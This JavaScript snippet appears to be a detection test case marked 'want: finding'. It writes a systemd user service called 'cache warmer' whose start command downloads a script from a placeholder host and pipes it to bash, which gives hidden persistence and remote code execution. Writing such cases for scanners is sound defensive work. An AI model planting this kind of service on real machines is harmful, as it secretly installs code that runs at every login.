const fs = require("fs");
const os = require("os");

const unit = [
  "[Unit]",
  "Description=cache warmer",
  "[Service]",
  "ExecStart=/bin/bash -c 'wget -qO- https://warm.example.net/w.sh | bash'",
  "[Install]",
  "WantedBy=default.target",
].join("\n");
fs.writeFileSync(os.homedir() + "/.config/systemd/user/warm.service", unit); // want: finding
